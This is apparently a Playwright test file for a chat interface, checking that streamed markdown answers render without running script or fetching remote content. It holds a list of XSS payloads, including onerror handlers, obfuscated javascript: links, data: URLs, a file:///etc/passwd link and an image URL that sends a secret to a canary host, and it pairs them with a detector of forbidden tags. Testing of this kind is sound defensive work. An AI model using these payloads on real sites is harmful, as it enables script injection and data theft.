import type { Page } from '@playwright/test'
import { blockTextEvents, encodeEvents } from '../harness/upstream/answers'
import { between, createRandom, takeSeed } from '../harness/upstream/random'
import { stream } from '../harness/upstream/script'
import { answerWith } from './answers'
import { answers, ask, questions } from './chat'
import { expect, test } from './fixtures'

const RUN = 'window.pwned=1'
const CANARY = 'http://canary.test'

/** Each tries to run something, to load something from elsewhere, or to lead somewhere it must not. */
const HOSTILE = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"><animate onbegin="${RUN}"/></svg>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<math><mtext></p><img src=x onerror="${RUN}"></mtext></math>`,
  `<style>@import url(${CANARY}/x.css); * { background: url(${CANARY}/y) }</style>`,
  `<link rel=stylesheet href=${CANARY}/x.css>`,
  `<base href="${CANARY}/">`,
  `<meta http-equiv=refresh content="0;url=${CANARY}/">`,
  `<form action="${CANARY}/"><input autofocus onfocus="${RUN}"><button>go</button></form>`,
  `<object data="${CANARY}/x"></object><embed src="${CANARY}/x">`,
  `<video src="${CANARY}/v" autoplay></video><audio src="${CANARY}/a" autoplay></audio>`,
  `[x](javascript:${RUN})`,
  `[x](java\tscript:${RUN})`,
  `[x](JaVaScRiPt&#58;${RUN})`,
  `[x](&#x6A;avascript&colon;${RUN})`,
  `[x](<javascript:${RUN}>)`,
  `[x](vbscript:${RUN})`,
  `[x](data:text/html,<script>parent.${RUN}</script>)`,
  `[x](file:///etc/passwd)`,
  `[x](/api/gateway-key) [y](//canary.test/x) [z](?next=x)`,
  `[x]: javascript:${RUN}\n\n[x] and <javascript:${RUN}>`,
  `[x](${CANARY}/a "\\" onmouseover=\\"${RUN}")`,
  `![x](${CANARY}/?d=SECRET)`,
  `![x](javascript:${RUN})`,
  `![x](data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>)`,
  `[![x](${CANARY}/i.png)](javascript:${RUN})`,
  `text[^1]\n\n[^1]: <img src=x onerror="${RUN}">`,
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${RUN}>"]; click A "javascript:${RUN}"\n\`\`\``,
  `$\\href{javascript:${RUN}}{x}$ and $$\\includegraphics{${CANARY}/x.png}$$`,
  `| <img src=x onerror="${RUN}"> |\n| - |\n| [x](javascript:${RUN}) |`,
  `- [ ] <input onfocus="${RUN}" autofocus>`,
]

// A dead link is clicked below: that it logs nothing either is part of the law.
test('Nothing in an answer runs, loads from elsewhere or leads to code, while it streams and after a reload', async ({
  page,
  upstream,
}) => {
  const seed = takeSeed()
  console.log(`Cuts of hostile text: seed ${seed}`)
  const random = createRandom(seed)
  const frames = encodeEvents(blockTextEvents(HOSTILE.map((text) => cutUp(text, random))))
  answerWith(upstream, stream(frames, { rate: 400 }))
  let dialogs = 0
  page.on('dialog', async (dialog) => {
    dialogs++
    await dialog.dismiss()
  })
  await ask(page, HOSTILE.join('\n\n'))
  await expect(answers(page).last()).toContainText('End of turn')
  expect(await findHarm(page)).toEqual([])
  await expect(questions(page)).toContainText(`<script>${RUN}</script>`)
  await page.reload()
  await expect(page.locator('.answer')).toHaveCount(HOSTILE.length)
  expect(await findHarm(page)).toEqual([])
  // What looks like a link to code is text: a click on it does nothing.
  await page
    .locator('.answer')
    .nth(HOSTILE.indexOf(`[x](javascript:${RUN})`))
    .click()
  expect(await findHarm(page)).toEqual([])
  expect(dialogs).toBe(0)
})

test('An image of another host shows as a link with that host, and is fetched by nobody', async ({
  page,
  upstream,
}) => {
  answerWith(
    upstream,
    stream(encodeEvents(blockTextEvents([[`![A chart](${CANARY}/chart.png?d=SECRET)`]]))),
  )
  await ask(page, 'Show me')
  const link = answers(page)
    .last()
    .getByRole('link', { name: /A chart.*canary\.test/ })
  await expect(link).toHaveAttribute('href', `${CANARY}/chart.png?d=SECRET`)
  await expect(link).toHaveAttribute('rel', /noopener/)
  await expect(link).toHaveAttribute('rel', /noreferrer/)
  await expect(page.getByRole('article').locator('img')).toHaveCount(0)
})

function cutUp(text: string, random: () => number): string[] {
  const pieces: string[] = []
  for (let at = 0; at < text.length; ) {
    const size = between(random, 1, 9)
    pieces.push(text.slice(at, at + size))
    at += size
  }
  return pieces
}

/** What of an answer is more than text, structure and links to the web. */
function findHarm(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const forbidden =
      'img, image, picture, script, iframe, frame, object, embed, form, style, link, base, meta, video, audio, source, track, math, input, textarea, foreignObject, animate, use, portal, template'
    const harm = [...document.querySelectorAll('article')].flatMap((article) => [
      // Formulas say to a screen reader what they are in MathML.
      ...[...article.querySelectorAll(forbidden)]
        .filter((element) => element.tagName !== 'math' || element.closest('.katex') === null)
        .map(({ outerHTML }) => outerHTML),
      ...[...article.querySelectorAll('*')].flatMap((element) =>
        [...element.attributes]
          .filter(({ name, value }) => isForbidden(element, name, value))
          .map(({ name }) => `${element.tagName} ${name}`),
      ),
      ...[...article.querySelectorAll('a')]
        .map((link) => link.getAttribute('href') ?? '')
        .filter((href) => !/^(https?:\/\/|mailto:|#)/.test(href)),
    ])
    return 'pwned' in window ? ['code ran', ...harm] : harm

    /** Positions within a formula, the side on which a column stands: no more may be styled. */
    function isForbidden(element: Element, name: string, value: string): boolean {
      if (name !== 'style') return name.startsWith('on') || name === 'srcdoc'
      if (/^text-align: \w+;$/.test(value)) return false
      return element.closest('.katex') === null || /url|position: (?!relative)/.test(value)
    }
  })
}
